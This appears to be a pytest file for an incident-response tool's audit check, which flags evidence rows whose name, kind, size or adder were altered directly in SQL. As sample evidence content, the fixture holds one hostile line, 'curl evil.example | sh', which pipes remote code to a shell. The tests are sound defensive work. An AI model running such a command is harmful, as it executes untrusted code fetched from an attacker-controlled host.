"""An evidence row's name, kind, size or adder changed in SQL was not caught by `audit verify`
(only its bytes and sha256 were checked): a renamed item read as something else in every list
and export, and 'OK' still. Each is now named against the item's `evidence:item:added` event,
on both databases."""

from __future__ import annotations

import pytest
from sqlalchemy import text

from tests.factories import make_incident
from warroom.clock import FakeClock
from warroom.db import Database
from warroom.evidence import service
from warroom.evidence.tamper import verify_all
from warroom.incidents.models import Incident


def _setup(seeded: Database, clock: FakeClock) -> int:
    with seeded.session() as session:
        incident = make_incident(session, clock)
        return service.add_evidence(
            session,
            clock,
            incident,
            kind="text",
            name="attacker's shell history",
            content=b"curl evil.example | sh",
            actor="user:alice@example.com",
            max_bytes=100,
        ).id


@pytest.mark.parametrize(
    ("column", "value", "said"),
    [
        ("name", "harmless notes", "name 'harmless notes' differs from the timeline's"),
        ("kind", "link", "kind 'link' differs from the timeline's 'text'"),
        ("size", 5, "size 5 differs from the timeline's 22"),
        ("added_by", "user:mallory@example.com", "added by 'user:mallory@example.com'"),
    ],
)
def test_a_changed_item_row_is_named(
    seeded: Database, clock: FakeClock, column: str, value: object, said: str
) -> None:
    item_id = _setup(seeded, clock)
    with seeded.engine.begin() as conn:
        conn.execute(
            text(f"UPDATE evidence_items SET {column} = :v WHERE id = :id"),
            {"v": value, "id": item_id},
        )
    with seeded.session() as session:
        report = verify_all(session)
    assert not report.ok
    (problem,) = report.findings["evidence"]
    assert problem.startswith(f"INC-1: evidence item {item_id} (")
    assert said in problem, problem


def test_an_untouched_item_verifies(seeded: Database, clock: FakeClock) -> None:
    _setup(seeded, clock)
    with seeded.session() as session:
        report = verify_all(session)
    assert report.ok, report.findings


def test_a_tombstones_remover_changed_is_named(seeded: Database, clock: FakeClock) -> None:
    item_id = _setup(seeded, clock)
    with seeded.session() as session:
        incident = session.get(Incident, 1)
        assert incident is not None
        service.remove(
            session, clock, incident, item_id, actor="user:alice@example.com", reason="a secret"
        )
        session.commit()
    with seeded.session() as session:
        assert verify_all(session).ok
    with seeded.engine.begin() as conn:
        conn.execute(
            text("UPDATE evidence_items SET removed_by = 'user:bob@example.com' WHERE id = :id"),
            {"id": item_id},
        )
    with seeded.session() as session:
        (problem,) = verify_all(session).findings["evidence"]
    assert "removed by 'user:bob@example.com', but event #" in problem, problem
